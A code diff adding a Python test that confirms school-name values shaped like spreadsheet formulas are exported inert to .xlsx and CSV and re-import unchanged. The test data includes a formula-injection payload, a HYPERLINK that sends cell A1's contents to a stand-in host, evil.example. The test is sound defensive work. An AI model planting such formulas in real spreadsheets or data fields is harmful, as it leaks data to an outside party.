@@ -115,3 +115,21 @@ def test_every_template_column_has_an_example_and_code_examples_are_real() -> No
     assert CHECK_EXAMPLES["industry"] in set(catalog.industries["code"].to_list())
     assert credit_code_problem(CHECK_EXAMPLES["credit_code"]) is None
     assert pl.Series([CHECK_EXAMPLES["region"]]).str.contains(r"^\d{6}$").all()
+
+
+def test_exports_never_carry_a_live_formula_and_round_trip(hub: Database, tmp_path: Path) -> None:
+    """A school named like a formula: the .xlsx cell is a string, the CSV cell inert ('=…), and both re-import as
+    the same name."""
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    quoted = '"' + evil.replace('"', '""') + '"'
+    (tmp_path / "s.csv").write_text(f"学校代码,学校名称,办学层次,举办性质,所在县市区代码\n9410100001,{quoted},中职,公办,410105\n",
+                                    encoding="utf-8")
+    import_file(hub, "学校", tmp_path / "s.csv", SETTINGS)
+    export_table(hub, "institutions", tmp_path / "out.xlsx")
+    cell = openpyxl.load_workbook(tmp_path / "out.xlsx")["数据"]["B2"]
+    assert cell.data_type == "s" and cell.value == evil
+    export_table(hub, "institutions", tmp_path / "out.csv")
+    assert "'=HYPERLINK" in (tmp_path / "out.csv").read_text(encoding="utf-8-sig")
+    for name in ("out.xlsx", "out.csv"):
+        again = import_file(hub, "institutions", tmp_path / name, SETTINGS)
+        assert (again.inserted, again.updated, again.unchanged) == (0, 0, 1), name
